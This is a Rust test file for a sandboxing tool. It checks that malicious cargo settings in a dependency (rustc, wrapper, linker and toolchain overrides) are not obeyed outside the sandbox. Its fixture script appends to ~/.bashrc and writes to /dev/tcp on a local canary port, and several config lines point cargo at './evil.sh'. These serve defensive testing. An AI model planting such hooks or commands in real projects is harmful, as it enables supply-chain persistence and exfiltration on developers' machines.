//! A dependency's own settings for cargo and rustup name programs, which cargo starts even to
//! fetch; a tool that fetches outside the sandbox must not obey them there.

use std::fs;

use super::Mode;
use crate::support::canary::Canary;
use crate::support::project::Project;
use crate::support::{skip, system, toolchain, unique};

const PACKAGE: &str = "node_modules/@evil/native";

/// A program that does its harm and then what was asked of it.
fn program(canary: &Canary, real: &str) -> String {
    format!(
        "#!/bin/bash\necho evil >> ~/.bashrc\necho evil 2>/dev/null > /dev/tcp/127.0.0.1/{}\n{real}\n",
        canary.tcp
    )
}

/// Builds the package as npm's user would, from its own folder; did the program do its harm?
fn obeyed(settings: &[(&str, &str)], real: &str, mode: Mode, rustup: Option<&str>) -> bool {
    let project = Project::named("host");
    let run = project.root().join("run");
    fs::create_dir_all(&run).unwrap();
    let mut canary = Canary::start(&run, &unique(), b"", Vec::new());
    project
        .home_file(".bashrc", "")
        .file("package.json", "{\"name\": \"host\"}\n");
    let inside = |path: &str| format!("{PACKAGE}/{path}");
    project.file(
        inside("Cargo.toml"),
        "[package]\nname = \"native\"\nversion = \"0.1.0\"\n[workspace]\n[lib]\ncrate-type = [\"cdylib\"]\n",
    );
    project.file(inside("src/lib.rs"), "");
    for program_path in ["evil.sh", "toolchain/bin/cargo", "toolchain/bin/rustc"] {
        let real = real.replace("TOOL", program_path.rsplit('/').next().unwrap());
        project.program(inside(program_path), program(&canary, &real));
    }
    for (path, text) in settings {
        let folder = project.path(PACKAGE).display().to_string();
        project.file(inside(path), text.replace("FOLDER", &folder));
    }
    let command = match mode {
        Mode::Plain if rustup.is_some() => project.run("cargo"),
        _ => mode.cargo(&project),
    };
    let mut command = command.arg("build").directory(project.path(PACKAGE));
    if let Some(folder) = rustup {
        let path = toolchain::path();
        let folders = std::iter::once(folder.into()).chain(std::env::split_paths(&path));
        command = command
            .env("PATH", std::env::join_paths(folders).unwrap())
            .env("RUSTUP_HOME", toolchain::rustup_home().unwrap());
    }
    let finished = command.finish();
    // A build that fails early has not shown that the program was not obeyed.
    finished.code(0);
    let heard = canary.stop();
    !heard.is_empty() || !fs::read(project.home(".bashrc")).unwrap().is_empty()
}

fn check(settings: &[(&str, &str)], real: &str, rustup: Option<&str>) {
    assert!(
        obeyed(settings, real, Mode::Plain, rustup),
        "plain cargo did not obey"
    );
    assert!(
        !obeyed(settings, real, Mode::FirstWall, rustup),
        "the first wall let it through"
    );
    if system::has_namespaces() {
        assert!(
            !obeyed(settings, real, Mode::BothWalls, rustup),
            "both walls let it through"
        );
    } else {
        skip("settings with both walls", "this system refuses namespaces");
    }
}

#[test]
fn rustc() {
    check(
        &[(".cargo/config.toml", "build.rustc = \"./evil.sh\"\n")],
        "exec rustc \"$@\"",
        None,
    );
}

#[test]
fn rustc_wrapper() {
    check(
        &[(
            ".cargo/config.toml",
            "build.rustc-wrapper = \"./evil.sh\"\n",
        )],
        "exec \"$@\"",
        None,
    );
}

#[test]
fn rustc_workspace_wrapper() {
    let settings = [(
        ".cargo/config.toml",
        "build.rustc-workspace-wrapper = \"./evil.sh\"\n",
    )];
    check(&settings, "exec \"$@\"", None);
}

#[test]
fn linker() {
    let settings = [(
        ".cargo/config.toml",
        "target.'cfg(unix)'.linker = \"FOLDER/evil.sh\"\n",
    )];
    check(&settings, "exec cc \"$@\"", None);
}

#[test]
fn toolchain_file() {
    let Some(rustup) = toolchain::rustup() else {
        return skip("toolchain_file", "no rustup");
    };
    let settings = [(
        "rust-toolchain.toml",
        "[toolchain]\npath = \"FOLDER/toolchain\"\n",
    )];
    let real = format!("exec {}/bin/TOOL \"$@\"", toolchain::sysroot().display());
    check(&settings, &real, Some(&rustup.display().to_string()));
}
